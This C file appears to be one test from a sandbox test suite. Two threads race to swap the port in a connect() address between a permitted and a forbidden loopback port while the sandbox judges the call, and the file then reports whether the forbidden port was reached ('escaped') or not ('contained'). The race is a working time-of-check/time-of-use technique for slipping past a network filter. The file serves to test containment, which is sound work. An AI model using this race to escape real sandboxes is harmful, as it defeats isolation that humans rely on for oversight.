// The address of a connect that was granted (port argv[1]) is swapped, while it is judged, for one that was not (port argv[2]). What was
// reached is asked of the socket itself.
#include "attack.h"

#include <arpa/inet.h>
#include <pthread.h>
#include <sched.h>

static struct sockaddr_in target = {.sin_family = AF_INET};
static in_port_t ports[2];

static void pin(int cpu) { /* beside the other thread, where there are two processors and it may be said */
        cpu_set_t set;
        CPU_ZERO(&set);
        CPU_SET(cpu, &set);
        sched_setaffinity(0, sizeof set, &set);
}

static void *flip(void *p) {
        pin(1);
        for (unsigned i = 0;; i++)
                __atomic_store_n(&target.sin_port, ports[i % 2], __ATOMIC_RELAXED);
        return p;
}

int main(int argc, char **argv) {
        pthread_t t;
        target.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        ports[0] = htons(atoi(arg(argc, argv, 1)));
        ports[1] = htons(atoi(arg(argc, argv, 2)));
        target.sin_port = ports[0];
        int granted = 0;
        pin(0);
        if (pthread_create(&t, NULL, flip, NULL) != 0)
                contained("pthread_create");
        int i = 0;
        for (double until = now_sec(CLOCK_MONOTONIC) + 4; i < 400 || (i < 4000 && now_sec(CLOCK_MONOTONIC) < until); i++) {
                struct sockaddr_in to = {0};
                socklen_t n = sizeof to;
                int s = socket(AF_INET, SOCK_STREAM, 0);
                if (s < 0)
                        contained("socket");
                if (connect(s, (struct sockaddr *)&target, sizeof target) == 0 && getpeername(s, (struct sockaddr *)&to, &n) == 0) {
                        if (to.sin_port == ports[1])
                                escaped("connected to port %d, which was not granted", ntohs(to.sin_port));
                        granted++;
                }
                close(s);
        }
        contained("%d of %d connects, all to the granted port", granted, i);
}
